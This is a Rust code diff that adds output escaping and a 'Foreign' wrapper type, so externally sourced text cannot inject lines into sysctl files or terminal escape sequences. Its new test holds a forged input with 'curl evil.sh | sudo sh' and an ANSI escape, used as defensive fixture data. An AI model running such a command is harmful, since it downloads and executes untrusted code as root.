@@ -37,10 +37,11 @@ pub fn number(v: f64) -> serde_json::Value {
     }
 }
 
-/// Text for a `#` comment line: one line whatever it holds. Control characters (a newline
-/// would start a live `key = value` line in a sysctl file) and the Unicode line separators
-/// print as escapes. Profiles refuse them already; this holds for every other source too.
-pub fn comment(s: &str) -> String {
+/// Text from outside shown so it cannot act: control characters (a newline would start a
+/// live `key = value` line in a sysctl file, or a forged line on a terminal; ESC starts a
+/// terminal escape sequence), the Unicode line separators and the bidirectional overrides
+/// print as visible escapes (`\u{a}`, `\u{1b}`). Everything else is kept.
+pub fn escape(s: &str) -> String {
     s.chars()
         .map(|c| {
             if c.is_control()
@@ -52,6 +53,48 @@ pub fn comment(s: &str) -> String {
             }
         })
         .collect()
+}
+
+/// Text for a `#` comment line: one line whatever it holds ([`escape`]). Profiles refuse
+/// control characters already; this holds for every other source too.
+pub fn comment(s: &str) -> String {
+    escape(s)
+}
+
+/// Text that came from outside tcptune — a peer, another process, the kernel's names, a file
+/// tcptune does not own — kept as received and shown only escaped ([`escape`]): its `Display`
+/// and its JSON are the escaped text, so it cannot reach a terminal, a sysctl file, YAML, INI
+/// or JSON raw. Wrap it where it enters; compare with [`Foreign::raw`].
+#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Deserialize)]
+#[serde(transparent)]
+pub struct Foreign(String);
+
+impl Foreign {
+    pub fn new(s: impl Into<String>) -> Self {
+        Self(s.into())
+    }
+
+    /// As received: for comparisons and lookups, never for output.
+    pub fn raw(&self) -> &str {
+        &self.0
+    }
+
+    /// As shown.
+    pub fn escaped(&self) -> String {
+        escape(&self.0)
+    }
+}
+
+impl std::fmt::Display for Foreign {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(&self.escaped())
+    }
+}
+
+impl serde::Serialize for Foreign {
+    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
+        s.serialize_str(&self.escaped())
+    }
 }
 
 /// One word for a POSIX shell: single-quoted, each `'` written `'\''`, so nothing in it
@@ -97,6 +140,22 @@ mod tests {
         assert!(!c.contains('\u{2028}'));
         assert!(c.starts_with("r\\u{a}kernel.core_pattern"), "{c}");
         assert_eq!(comment("2 x BDP (8.94 MiB)"), "2 x BDP (8.94 MiB)");
+    }
+
+    #[test]
+    fn foreign_text_is_shown_escaped_everywhere() {
+        let forged = Foreign::new("net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m");
+        let shown = forged.to_string();
+        assert!(!shown.chars().any(char::is_control), "{shown}");
+        assert!(
+            shown.contains("tcp_rmem\\u{a}\\u{a}advice") && shown.contains("\\u{1b}[31m"),
+            "{shown}"
+        );
+        let json = serde_json::to_string(&forged).expect("json");
+        assert!(!json.contains("\\n") && json.contains("\\\\u{1b}"), "{json}");
+        assert_eq!(forged.raw().lines().count(), 4, "kept as received");
+        let back: Foreign = serde_json::from_str("\"a\\u001bb\"").expect("from a peer");
+        assert_eq!((back.raw(), back.escaped().as_str()), ("a\u{1b}b", "a\\u{1b}b"));
     }
 
     #[test]
